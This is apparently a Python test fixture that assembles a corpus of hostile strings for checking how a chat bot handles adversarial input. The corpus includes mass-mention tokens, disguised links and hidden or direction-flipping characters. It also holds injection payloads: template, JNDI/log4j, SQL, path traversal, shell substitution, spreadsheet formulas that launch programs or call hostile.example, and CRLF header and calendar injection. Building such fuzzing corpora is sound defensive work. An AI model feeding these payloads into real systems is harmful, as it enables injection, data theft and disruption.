"""Texts that are meant to break, forge, hide or turn round what the bot writes."""

from collections.abc import Iterator, Mapping

# Whatever the texts would reach or link to is called so, and nothing else is.
MARK = "hostile"
_MENTIONS = ("<@U0HOSTILE>", "<!channel>", "<!here>", "<!everyone>", "<!subteam^S0HOSTILE>")
_LINKS = (
    "<https://hostile.example|your bank>",
    "<http://hostile.example>",
    "<mailto:a@hostile.example|write to us>",
    "<#C0HOSTILE|general>",
    "<!date^1^{time}^https://hostile.example|now>",
    "<!subteam^S0HOSTILE|@everybody>",
)
_BLANKS = (
    *("\u3164", "\u2800", "\u115f", "\u1160", "\uffa0", "\u180e", "\u034f", "\u00ad", "\u17b4"),
    *("\u200b", "\u2060", "\ufeff", "\u2064", "\u00a0", "\u3000", "\u2007", "\u202f", "\ufff0"),
)
_BREAKS = (
    *("\n", "\r", "\r\n", "\u2028", "\u2029", "\u0085", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e"),
    *("\t", "\n\n\n", "\r\n\r\n"),
)
_TURNS = tuple(map(chr, (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x61C)))
_CONTROLS = (
    *(chr(code) for code in (*range(9), 0xE, 0xF, *range(0x10, 0x1C), 0x1F, 0x7F)),
    *(chr(code) for code in range(0x80, 0xA0)),
)
_MARKS = ("\u0301", "\u0338", "\u20dd", "\u0489", "\u0e49", "\u0e4d", "\u064b", "\u05b0")
_TEMPLATES = (
    *("{0.__class__}", "{0.__class__.__init__.__globals__}", "{self}", "{}", "{{7*7}}", "{%if 1%}"),
    *("${7*7}", "$start", "$ended", "${ended}", "#{7*7}", "%s", "%(name)s", "%n%n", "%x" * 9),
    *("%99999d", "<%= 7*7 %>", "{{config}}", "${jndi:ldap://hostile.example/a}", "`id`", "$(id)"),
)
_MARKUP = (
    *("*bold*", "_it_", "~no~", "`code`", "```\nblock\n```", "> quoted", ">>> all of it", "* * *"),
    *(
        "*",
        "_",
        "~",
        "`",
        "```",
        ">",
        "• item",
        "1. item",
        ":tada:",
        ":skull::skull:",
        "&",
        "&amp;",
    ),
    *("&lt;!channel&gt;", "&lt;@U0HOSTILE&gt;", "&amp;lt;!here&amp;gt;", "<", ">", "<>", "<|>"),
    *("<<!channel>>", "<!chan<!here>nel>", "<!channel|x", "!channel>", "<\u200b!channel>"),
    *(
        "@here",
        "@channel",
        "@everyone",
        "@Channel now",
        "x@here",
        "(@here)",
        "@\u200bhere",
        "＠here",
    ),
    *(
        "https://hostile.example",
        "www.hostile.example",
        "javascript:alert(1)",
        "[a](http://hostile)",
    ),
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</blocks>", '"}],"text":"x'),
)
_FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1", "＝1+1"),
    *('=HYPERLINK("http://hostile.example","x")', '"=1"', "'=1", "=WEBSERVICE(A1)", ";=1", ",=1"),
)
_CALENDAR = (
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:hostile",
    "x\nATTENDEE:mailto:a@hostile.example",
    "x\r\n\tfolded",
    "x;TZID=hostile:y",
    "a\\, b\\; c\\n d\\\\",
    'x"\r\nURL:http://hostile.example',
    "x\r\nRRULE:FREQ=SECONDLY",
    "Subject: x\r\nBcc: all@hostile.example\r\n\r\nbody",
    "HTTP/1.1 200 OK\r\nSet-Cookie: a=b",
)
_QUERIES = (
    *(
        "'",
        '"',
        "';--",
        "' OR '1'='1",
        "1; DROP TABLE people",
        "%' OR 1=1 --",
        "%",
        "_",
        "\\",
        "\\'",
    ),
    *("NULL", "null", "None", "undefined", "NaN", "true", "-1", "0", "1e309", "9" * 40, "٣", "Ⅷ"),
    *(
        "../../etc/passwd",
        "..\\..\\x",
        "file:///etc/passwd",
        "C:\\x",
        "|id",
        "a && b",
        "a;b",
        "--help",
    ),
    *(
        "yes",
        "no",
        "yes yes yes",
        "help",
        "due 31 February",
        "due 1/2/3",
        "to",
        "to to to",
        "@",
        "#",
    ),
    *("person ٣", "person " + "9" * 30, "organisation 1 1", "1 " + "9" * 30, "E1 everybody"),
    *("E1", "E99999999999999999999", "A0", "A-1", "E1 yes", "type:x topic:y level:z", "with with"),
)
_LONG = (
    *("a" * 151, "a" * 301, "a" * 3001, "a" * 20_000, "ab " * 1500, "<" * 3000, "&" * 3000),
    *("*" * 3000, "👍" * 2000, "👩\u200d👧" * 800, "e\u0301" * 1500, "\n" * 3000, "a\n" * 1500),
    *("﷽" * 400, "𒐫" * 400, "ſ" * 400, "ß" * 400, "\u0130" * 400, "@here " * 500),
)
_SCRIPTS = (
    *("שלום עולם", "مرحبا بالعالم", "می\u200cخواهم", "क्\u200dष", "ക്\u200d", "র\u200d্য", "สวัสดี"),
    *(
        "Ａｄｏｂｅ",
        "Аdobe",
        "Adobе",
        "ﬁle",
        "İstanbul",
        "ǅ",
        "Coimisiún na Meán",
        "葛\U000e0100城",
    ),
    *(
        "👨\u200d👩\u200d👧\u200d👦",
        "🏳️\u200d🌈",
        "👍🏽",
        "1️⃣",
        "🇧🇪",
        "🇧",
        "❤️",
        "☺︎",
        "🏴\U000e0067\U000e007f",
    ),
)
_HIDDEN = (
    "a\u200db",
    "a\u200cb",
    "\u200d",
    "\u200d\u200d\u200d",
    "👍\u200d",
    "\u200d👍",
    "a\ufe0f",
    "👍" + "".join(chr(0xE0100 + n) for n in b"signal"),
    "👍" + "\ufe0f" * 200,
    "".join(chr(0xE0000 + n) for n in b"hostile"),
    "a" + "".join(chr(0xE0000 + n) for n in b"hostile") + "b",
    "a\u2062b\u2063c\u2064d",
    "\u3164\u3164\u3164",
    "\u2800 \u115f \u1160",
    "\u0301",
    " \u0338",
    "\u180b\u180c",
)
_HALVES = (
    "\ud83d",
    "\udc4d",
    "a\ud800b",
    "\udfff\ud800",
    "\ud83d \udc4d",
    "\ufffe",
    "\uffff",
    "\ufdd0",
)
_BARE = ("", " ", "\n", "\t \t", "\u200b", "\u202e\u202c", "\x00", "\x1b", "...", "–", "\u3000")


def _around(*parts: str) -> Iterator[str]:
    for part in parts:
        yield f"one{part}two"
        yield part * 3


CORPUS: Mapping[str, tuple[str, ...]] = {
    "mentions": (*_MENTIONS, *(f"Please {one} look" for one in _MENTIONS), "".join(_MENTIONS)),
    "links": (*_LINKS, *(f"See {one}." for one in _LINKS)),
    "blanks": tuple(_around(*_BLANKS)),
    "breaks": tuple(_around(*_BREAKS)),
    "turns": (*_around(*_TURNS), "abc\u202etxt.exe", "\u2067\u2066\u202e", "\u2069\u2069x"),
    "controls": tuple(f"one{one}two" for one in _CONTROLS),
    "ansi": ("\x1b[2J", "\x1b]8;;http://hostile.example\x07x", "\x1b[31mred", "\x9b31m", "\b\b\b"),
    "piled": (*("e" + mark * 200 for mark in _MARKS), "".join(f"e{m * 9}" for m in _MARKS)),
    "hidden": _HIDDEN,
    "halves": _HALVES,
    "templates": _TEMPLATES,
    "markup": _MARKUP,
    "formulas": _FORMULAS,
    "calendar": _CALENDAR,
    "queries": _QUERIES,
    "long": _LONG,
    "scripts": _SCRIPTS,
    "bare": _BARE,
}
HOSTILE = tuple(dict.fromkeys(text for texts in CORPUS.values() for text in texts))
